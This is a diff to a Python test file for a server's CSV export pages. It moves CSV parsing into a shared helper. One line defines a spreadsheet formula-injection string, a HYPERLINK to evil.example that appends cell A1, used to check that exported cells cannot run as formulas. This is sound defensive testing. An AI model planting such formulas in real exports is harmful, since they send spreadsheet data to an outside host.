@@ -2,12 +2,10 @@
 /outliers.csv, /disputes.csv, /models.csv, /hardware.csv) and the JSON twins added beside them:
 RFC 4180 records with a header row, the page's rows in the page's order,
 and cells a spreadsheet cannot run as formulas."""
-import csv
-import io
 
 import pytest
 
-from conftest import make_payload, new_key, sign
+from conftest import csv_table, make_payload, new_key, sign
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1, "click") -2'
 
@@ -21,15 +19,7 @@ def upload(server, decode, name="Qwen2.5-7B-Instruct", hw="M3 Ultra"):
 
 
 def records(resp):
-    assert resp.status_code == 200, resp.text
-    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
-    text = resp.content.decode("utf-8")
-    assert text.endswith("\r\n")
-    # Every record ends with CRLF; a bare LF appears only inside quotes.
-    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
-    header, body = rows[0], rows[1:]
-    assert all(len(r) == len(header) for r in body)
-    return [dict(zip(header, r)) for r in body]
+    return csv_table(resp)[1]
 
 
 def test_table_pages_have_csv_twins_in_page_order(server):
